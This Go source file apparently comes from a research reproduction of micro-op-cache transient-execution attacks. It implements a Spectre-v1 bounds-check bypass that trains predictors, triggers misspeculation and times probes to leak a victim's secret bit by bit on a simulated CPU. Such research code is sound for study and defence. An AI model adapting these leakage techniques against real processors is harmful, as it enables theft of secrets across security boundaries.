// Package transient implements the §VI transient-execution attacks:
//
//   - Variant 1: a Spectre-v1-style bounds-check bypass whose disclosure
//     primitive is the micro-op cache — the transiently read secret
//     steers a (squashed) transmitter whose fetch footprint survives the
//     squash.
//   - Variant 2: an authorization-check bypass whose transmitter is a
//     secret-dependent indirect call. The secret is encoded in the
//     indirect branch predictor by legitimate runs; a transient fetch at
//     the predicted target leaks it even under LFENCE, before the call
//     is ever dispatched to execution.
//   - The classic Spectre-v1 baseline transmitting over the LLC with
//     flush+reload, for the Table II comparison.
package transient

import (
	"fmt"

	"deaduops/internal/asm"
	"deaduops/internal/attack"
	"deaduops/internal/codegen"
	"deaduops/internal/cpu"
	"deaduops/internal/isa"
	"deaduops/internal/victim"
)

// Code layout bases.
const (
	victimCode = 0x20000
	gadgetCode = 0x30000
	eraserBase = 0x40000
	senderBase = 0x80000
	zebraBase  = 0xC0000
	maxRun     = 5_000_000
)

// run executes one single-shot routine on thread 0 and returns its
// cycles; what names the routine in the timeout error.
func run(c *cpu.CPU, entry uint64, what string) (uint64, error) {
	res := c.Run(0, entry, maxRun)
	if res.TimedOut {
		return 0, fmt.Errorf("transient: %s timed out", what)
	}
	return res.Cycles, nil
}

// orgToSet advances the builder to the next region mapping to the
// given micro-op cache set.
func orgToSet(b *asm.Builder, set int) {
	pc := b.PC()
	next := pc&^uint64(codegen.WayStride-1) + uint64(set)*codegen.RegionSize
	for next <= pc {
		next += codegen.WayStride
	}
	b.Org(next)
}

// transientGeometry is small enough that one transient traversal fits
// inside the speculation window opened by one flushed load.
func transientGeometry() attack.Geometry { return attack.Geometry{NSets: 2, NWays: 6, FirstSet: 1} }

// Variant1 is the µop-cache Spectre attack. Its disclosure protocol
// is a presence test on the micro-op cache: the attacker erases the
// probed sets with a conflicting tiger, triggers the victim so its
// transient transmitter (re)fills them — or not, per the secret bit —
// and then times one traversal of the transmitter chain itself. A fast
// traversal means the transient fetch happened: the bit was one.
//
// Every call into the attack entry takes R1 = index into the public
// array, R2 = 0, R6 = bit index, and R7 = transmitter loop count: 1
// during training so the architectural transmission terminates,
// larger during attacks so the transient transmission loops until the
// squash.
type Variant1 struct {
	c           *cpu.CPU
	lay         victim.Layout
	eraser      *attack.Routine
	th          attack.Threshold
	attackEntry uint64
	probeEntry  uint64
	touchEntry  uint64
}

// The variant-1 per-bit protocol: the eraser tiger runs v1EraseIters
// traversals, then the victim is triggered v1AttackReps times, each
// with the transmitter looping v1XmitLoops times.
const (
	v1EraseIters = 30
	v1AttackReps = 4
	v1XmitLoops  = 50
)

// NewVariant1 assembles the victim library, the attacker gadget, and
// the probing tigers, then calibrates the timing threshold.
func NewVariant1(c *cpu.CPU) (*Variant1, error) {
	lay := victim.DefaultLayout()
	g := transientGeometry()
	eraser, err := attack.Build(attack.Tiger(eraserBase, g, "erase"))
	if err != nil {
		return nil, err
	}
	send := attack.FastTiger(senderBase, g, "v1send")
	zeb := attack.Zebra(zebraBase, g, "v1zebra")

	// The victim library and the attacker gadget share one image, so
	// the gadget's CALL can reference the victim's label. The victim's
	// own periodic secret use (victim.SecretUse) sits at touch_entry.
	// The attack entry flushes the array size so the bounds check
	// resolves late. Training calls index the public array, whose zero
	// bytes always steer the architectural transmission down the zebra
	// path — it never touches the probed sets. (A transient one-bit
	// then mispredicts the bit branch and redirects fetch into the
	// tiger, inside the window.)
	ab := asm.New(victimCode)
	victim.BoundsCheckVictim(ab, lay)
	victim.SecretUse(ab, lay)
	ab.Org(gadgetCode - 0x1000)
	ab.Label("touch_entry")
	ab.Call("victim_use_secret")
	ab.Halt()
	ab.Org(gadgetCode)
	ab.Label("attack_entry")
	ab.Clflush(isa.R2, int64(lay.ArraySizeAddr))
	ab.Call("victim_function")
	// Architecturally the out-of-bounds call returns -1 and we skip
	// transmission; transiently R0 holds the secret byte and the
	// branch below resolves the other way, steering fetch into the
	// transmitter.
	ab.Cmpi(victim.RegRet, -1)
	ab.Jcc(isa.EQ, "attack_done")
	ab.Mov(isa.R3, victim.RegRet)
	ab.Shr(isa.R3, isa.R6)
	ab.Andi(isa.R3, 1)
	ab.Cmpi(isa.R3, 0)
	ab.Jcc(isa.EQ, "send_zero")
	ab.Jmp(send.EntryLabel())
	ab.Label("send_zero")
	ab.Jmp(zeb.EntryLabel())
	ab.Label("attack_done")
	ab.Halt()
	if err := loopChain(ab, send, 24); err != nil {
		return nil, err
	}
	if err := loopChain(ab, zeb, 26); err != nil {
		return nil, err
	}
	prog, err := ab.Build()
	if err != nil {
		return nil, err
	}
	merged, err := asm.Merge(eraser.Prog, prog)
	if err != nil {
		return nil, err
	}
	c.LoadProgram(merged)
	c.Mem().Write(lay.ArraySizeAddr, 8, lay.ArrayLen)
	v := &Variant1{
		c: c, lay: lay, eraser: eraser,
		attackEntry: prog.MustLabel("attack_entry"),
		probeEntry:  prog.MustLabel(send.EntryLabel()),
		touchEntry:  prog.MustLabel("touch_entry"),
	}
	if err := v.calibrate(); err != nil {
		return nil, err
	}
	return v, nil
}

// loopChain emits chain looping R7 times: the chain, then, in the next
// region of tailSet (away from the probed sets), the tail that counts
// R7 down, re-enters the chain and halts.
func loopChain(ab *asm.Builder, chain *codegen.ChainSpec, tailSet int) error {
	tail := chain.Label + "_tail"
	if err := chain.Emit(ab, tail); err != nil {
		return err
	}
	orgToSet(ab, tailSet)
	ab.Label(tail)
	ab.Subi(isa.R7, 1)
	ab.Cmpi(isa.R7, 0)
	ab.Jcc(isa.NE, chain.EntryLabel())
	ab.Halt()
	return nil
}

// WriteSecret plants the victim's secret bytes: the out-of-bounds data
// the malicious index reaches.
func (v *Variant1) WriteSecret(secret []byte) {
	v.c.Mem().WriteBytes(v.lay.SecretBase, secret)
}

// Threshold exposes the calibrated probe threshold. HitMean is the
// one-bit (transmitter present) mean and MissMean the zero-bit mean.
func (v *Variant1) Threshold() attack.Threshold { return v.th }

// call runs the attack entry once with the given register arguments.
func (v *Variant1) call(index int64, bit int, loops int64, what string) error {
	v.c.SetReg(0, isa.R1, index)
	v.c.SetReg(0, isa.R2, 0)
	v.c.SetReg(0, isa.R6, int64(bit))
	v.c.SetReg(0, isa.R7, loops)
	_, err := run(v.c, v.attackEntry, what)
	return err
}

// leakRaw runs the per-bit protocol against bit `bit` of secret byte
// byteIndex and returns the probe time. Training interleaves with the
// attack repetitions: every misspeculated attack call re-trains the
// bounds check toward the taken (out-of-bounds) outcome, so two benign
// calls, at public indices, precede each malicious one — the classic
// Spectre-v1 cadence. The probe times one traversal of the transmitter
// chain: fast if the transient transmission installed it, slow if the
// eraser still owns the sets.
func (v *Variant1) leakRaw(byteIndex, bit int) (uint64, error) {
	if _, err := v.eraser.Run(v.c, v1EraseIters); err != nil {
		return 0, err
	}
	// The victim's own activity keeps the secret line cache-resident
	// (the conventional Spectre assumption; without it the transient
	// dependent branch cannot resolve inside the window).
	v.c.SetReg(0, isa.R1, int64(byteIndex))
	if _, err := run(v.c, v.touchEntry, "victim secret-use"); err != nil {
		return 0, err
	}
	idx := int64(v.lay.SecretBase-v.lay.ArrayBase) + int64(byteIndex)
	for r := 0; r < v1AttackReps; r++ {
		for i := 0; i < 2; i++ {
			if err := v.call(int64(i), 0, 1, "training run"); err != nil {
				return 0, err
			}
		}
		if err := v.call(idx, bit, v1XmitLoops, "attack run"); err != nil {
			return 0, err
		}
	}
	v.c.SetReg(0, isa.R7, 1)
	return run(v.c, v.probeEntry, "probe")
}

// calibrate measures both probe distributions on known bits of secret
// byte 0: the hit side plants an all-ones byte so the transient
// transmitter installs the probed chain, the miss side an all-zeros
// byte so the eraser keeps it. Two warm-up pairs fill the instruction
// cache and train the branch predictors; the first windows are
// otherwise consumed by cold L1I misses. The probe times one
// traversal, and any positive separation is accepted: the signal is a
// single chain's presence, not a tuned prime+probe ratio.
func (v *Variant1) calibrate() error {
	r, err := attack.KnownRounds(2, 6, 1, func(hit bool) (uint64, error) {
		secret := byte(0x00)
		if hit {
			secret = 0xFF
		}
		v.WriteSecret([]byte{secret})
		return v.leakRaw(0, 0)
	})
	if err != nil {
		return err
	}
	v.th = r.Stats()
	if v.th.MissMean <= v.th.HitMean {
		return fmt.Errorf("transient: no variant-1 signal (%s)", v.th.Spread())
	}
	return nil
}

// LeakBit transiently reads bit `bit` of secret byte `byteIndex`: a
// fast probe means the transmitter chain is present, so the bit was
// one.
func (v *Variant1) LeakBit(byteIndex, bit int) (bool, error) {
	cycles, err := v.leakRaw(byteIndex, bit)
	if err != nil {
		return false, err
	}
	return v.th.Hit(cycles), nil
}

// Leak recovers nBytes of the victim's secret bit-by-bit.
func (v *Variant1) Leak(nBytes int) ([]byte, Stats, error) {
	out := make([]byte, nBytes)
	var st Stats
	st.begin(v.c)
	for i := 0; i < nBytes; i++ {
		for k := 0; k < 8; k++ {
			bit, err := v.LeakBit(i, k)
			if err != nil {
				return nil, st, err
			}
			if bit {
				out[i] |= 1 << k
			}
			st.Bits++
		}
	}
	st.end(v.c)
	return out, st, nil
}
